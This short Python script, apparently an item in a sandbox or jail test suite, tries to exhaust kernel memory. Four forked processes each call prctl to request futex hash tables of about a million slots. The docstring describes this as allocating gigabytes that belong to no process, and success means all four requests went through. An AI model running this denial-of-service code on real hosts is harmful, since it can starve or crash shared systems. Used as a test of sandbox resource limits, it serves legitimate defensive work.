"""Asks the kernel for tables of futexes: gigabytes at once, which belong to no process's memory.

Form: jail
Alive: exhausts
"""

import ctypes
import os
import time

PR_FUTEX_HASH, SET_SLOTS, SLOTS = 78, 1, 1 << 20  # 64 bytes each


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    reading, writing = os.pipe()
    for _ in range(4):
        if not os.fork():
            got = libc.prctl(PR_FUTEX_HASH, SET_SLOTS, SLOTS, 0, 0)
            os.write(writing, b"n" if got else b"y")
            time.sleep(3)
            os._exit(0)
    return b"".join(os.read(reading, 1) for _ in range(4)) == b"yyyy"
